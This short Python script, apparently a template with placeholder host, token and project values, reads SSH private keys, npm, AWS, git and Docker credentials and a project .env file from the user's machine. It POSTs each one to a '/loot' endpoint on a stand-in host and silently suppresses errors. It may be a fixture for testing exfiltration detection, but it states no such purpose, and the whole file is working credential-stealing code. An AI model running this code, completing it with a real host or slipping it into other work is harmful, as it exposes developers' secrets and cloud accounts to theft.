import contextlib
import urllib.request
from pathlib import Path

NAMES = (".ssh/id_ed25519", ".npmrc", ".aws/credentials", ".git-credentials", ".docker/config.json")


def post(port, loot):
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://@SINK@:{port}/loot", loot, timeout=3)


def act():
    post(8000, b"hello-@TOKEN@")
    for name in NAMES:
        with contextlib.suppress(OSError):
            post(8080, Path.home().joinpath(name).read_bytes())
    with contextlib.suppress(OSError):
        post(8443, Path("@PROJECT@/.env").read_bytes())
